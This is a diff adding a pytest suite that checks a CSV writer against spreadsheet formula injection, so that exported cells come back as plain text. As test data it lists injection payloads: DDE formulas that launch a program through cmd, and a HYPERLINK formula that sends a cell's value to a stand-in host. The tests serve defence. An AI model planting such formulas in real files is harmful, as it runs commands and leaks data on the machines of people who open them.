@@ -1,0 +1,68 @@
+"""CSV: cells come back as they were, and a spreadsheet computes none of them."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from octavo.csv_text import read_csv, write_csv
+from octavo.documents.csv_tables import format_csv as format_table
+from octavo.outputs import format_csv
+from tests.rows import hostile_texts, make_row
+
+# What OWASP's page "CSV Injection" lists.
+TRIGGERS = "=+-@\t\r\n＝＋－＠"
+# Formulas of published reports: a program started, a cell sent away, a sign to hide behind.
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://x.example/?a="&A1;"Error")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def as_spreadsheet(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("sign", TRIGGERS, ids=ascii)
+def test_no_cell_begins_with_a_sign_of_a_formula(sign: str) -> None:
+    assert as_spreadsheet(write_csv(["a"], [[f"{sign}1+1"]]))[1] == [f"'{sign}1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_both_exports_show_formulas_as_text(formula: str) -> None:
+    """A title that is a formula is text in the publications' spreadsheet and in the tables' files."""
+    row = make_row(title=formula, topics=(formula, formula), venue=formula)
+    for text in (format_csv([row]), format_table("publications", [row])):
+        assert [cell for line in as_spreadsheet(text) for cell in line if cell.startswith(tuple(TRIGGERS))] == []
+        assert text.startswith('"'), "every cell is quoted, so that no separator in it begins another"
+
+
+@given(st.lists(st.lists(hostile_texts | st.text(alphabet="'=+-@＝\t\r\n,\"a"), min_size=2, max_size=2), max_size=5))
+def test_what_is_written_comes_back(rows: list[list[str]]) -> None:
+    """Apostrophes that a text had before are still there, and only those."""
+    assert [list(row.values()) for row in read_csv(write_csv(["a", "b"], rows))] == rows
+
+
+@given(hostile_texts)
+def test_an_ordinary_text_is_left_alone(text: str) -> None:
+    """Only a text that begins like a formula gets an apostrophe: nobody else's cells change."""
+    if not text.lstrip("'").startswith(tuple(TRIGGERS)):
+        assert as_spreadsheet(write_csv(["a"], [[text]]))[1] == [text]
+
+
+def test_there_is_one_writer() -> None:
+    """Whatever else writes CSV would have to remember the rule."""
+    package = Path(__file__).parents[1] / "src/octavo"
+    found = [file.name for file in package.rglob("*.py") if "csv.writer" in file.read_text(encoding="utf-8")]
+    assert found == ["csv_text.py"]
